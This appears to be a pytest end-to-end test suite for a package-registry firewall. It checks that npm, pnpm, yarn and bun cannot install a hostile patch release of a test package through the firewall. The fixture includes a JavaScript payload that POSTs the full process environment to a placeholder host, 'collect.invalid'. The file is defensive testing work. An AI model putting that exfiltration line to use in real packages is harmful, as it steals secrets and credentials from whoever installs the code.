"""A hostile patch is published: what each client installs directly, it cannot get through here.

Nothing of the client's own holds it back: the release is old enough for every cooldown, and the
policy's own cooldown is off. What refuses it is what its code newly does.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from tests.clients import Client, Clients
from tests.e2e import installing
from tests.e2e.serving import Served, served
from tests.registry import Registry

pytestmark = pytest.mark.online

WIDGET, TWIN = "pratique-test-widget", "pratique-test-twin"
POLICY = 'preset = "recommended"\n[rules]\n"release-age/too-new" = "off"\n'
PLAIN = "module.exports = (a) => a + 1;\n"
# It says nothing to anybody: the host does not exist.
THIEF = (
    "const https = require('https');\n"
    "https.request({host: 'collect.invalid', method: 'POST'}).end(JSON.stringify(process.env));\n"
) + PLAIN
CLIENTS = ("npm11", "pnpm11", "yarn1", "yarn4", "bun")
PRINTS_THE_PHRASE = frozenset({"npm11", "pnpm11", "yarn4"})
"""yarn 1 prints the status alone for an artifact, bun the address."""


@pytest.fixture(scope="module")
def registry() -> Iterator[Registry]:
    now = datetime.now(UTC)  # noqa: TID251 - the firewall that is served has the machine's clock
    with Registry() as made:
        for days, version, code in ((90, "1.0.0", PLAIN), (40, "1.0.1", THIEF)):
            at = now - timedelta(days=days)
            made.publish(WIDGET, version, published=at, files={"index.js": code})
            twin = PLAIN + f"// {version}\n"
            made.publish(TWIN, version, published=at, files={"index.js": twin})
        yield made


@pytest.fixture(scope="module")
def firewall(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served(registry, tmp_path_factory.mktemp("firewall"), POLICY) as made:
        yield made


def project(folder: Path) -> Path:
    folder.mkdir()
    wanted = {WIDGET: "^1.0.0", TWIN: "^1.0.0"}
    manifest = {"name": "p", "version": "1.0.0", "private": True, "dependencies": wanted}
    installing.write_json(folder / "package.json", manifest)
    # yarn 4 writes files instead of a linker's script, and checks no release's age itself.
    (folder / ".yarnrc.yml").write_text("nodeLinker: node-modules\nnpmMinimalAgeGate: 0\n")
    return folder


def versions(folder: Path) -> dict[str, str]:
    found = {}
    for name in (WIDGET, TWIN):
        manifest = folder / "node_modules" / name / "package.json"
        found[name] = json.loads(manifest.read_text())["version"]
    return found


def client_of(clients: Clients, name: str) -> Client:
    return getattr(clients, name)  # type: ignore[no-any-return]  # a field for each client


@pytest.mark.parametrize("name", CLIENTS)
def test_what_a_client_installs_directly_it_does_not_get_through_the_firewall(
    name: str, clients: Clients, registry: Registry, firewall: Served, tmp_path: Path
) -> None:
    client = client_of(clients, name)
    direct = project(tmp_path / "direct")
    installing.install(client, direct, registry)
    assert versions(direct)[WIDGET] == "1.0.1"

    behind = project(tmp_path / "behind")
    ran = client.run(["install"], cwd=behind, registry=firewall.url)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert versions(behind) == {WIDGET: "1.0.0", TWIN: "1.0.1"}


@pytest.mark.parametrize("name", CLIENTS)
def test_a_lockfile_that_already_has_it_does_not_get_it_either(
    name: str, clients: Clients, registry: Registry, firewall: Served, tmp_path: Path
) -> None:
    client = client_of(clients, name)
    folder = project(tmp_path / "locked")
    lockfile = installing.install(client, folder, registry)
    installing.forget_installed(folder)
    text = lockfile.read_text()
    lockfile.write_text(text.replace(registry.url, firewall.url))
    ran = client.run(["install"], cwd=folder, registry=firewall.url)
    said = ran.stdout + ran.stderr
    code = folder / "node_modules" / WIDGET / "index.js"
    assert ran.returncode != 0, said
    assert not code.exists() or "collect.invalid" not in code.read_text()
    if name in PRINTS_THE_PHRASE:
        assert "blocked by policy" in said or "not present in registry" in said, said


def test_the_log_names_the_rule_about_content(firewall: Served) -> None:
    log = firewall.log("--package", WIDGET)
    assert f"{WIDGET}@1.0.1  behavior/new-capability" in log


def test_the_hostile_artifact_left_the_firewall_not_once(firewall: Served) -> None:
    rows = [json.loads(line) for line in firewall.log("--format", "jsonl").splitlines()]
    given = {row["name"] for row in rows if row.get("status") == 200 and row["version"] == "1.0.1"}
    assert given == {TWIN}
